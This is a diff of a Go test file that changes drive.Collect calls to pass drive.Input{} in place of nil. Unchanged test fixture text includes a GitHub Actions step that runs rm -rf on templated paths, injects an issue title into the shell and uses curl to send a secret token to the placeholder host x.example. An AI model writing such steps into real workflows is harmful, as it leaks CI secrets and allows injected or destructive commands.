@@ -57,7 +57,7 @@ func TestBuildFilesHaveOneAnswer(t *testing.T) {
 		j.Whole = true
 		j.Given = map[string]string{"MISSING": ""}
 		for name := range files {
-			found, err := drive.Collect(dir, nil, []string{name}, "")
+			found, err := drive.Collect(dir, drive.Input{}, []string{name}, "")
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -104,7 +104,7 @@ func TestNothingIsMadeUp(t *testing.T) {
 		".github/workflows/ci.yml": "jobs: {a: {steps: [{run: \"rm -rf ${{ matrix.dir }} '${{ inputs.x }}'; ${{ github.event.issue.title }}; curl -H 'A: ${{ secrets.T }}' http://x.example\"}]}}\n",
 	}
 	dir := tree(t, files)
-	found, err := drive.Collect(dir, nil, []string{"Makefile", "justfile", ".github/workflows/ci.yml"}, "")
+	found, err := drive.Collect(dir, drive.Input{}, []string{"Makefile", "justfile", ".github/workflows/ci.yml"}, "")
 	if err != nil {
 		t.Fatal(err)
 	}
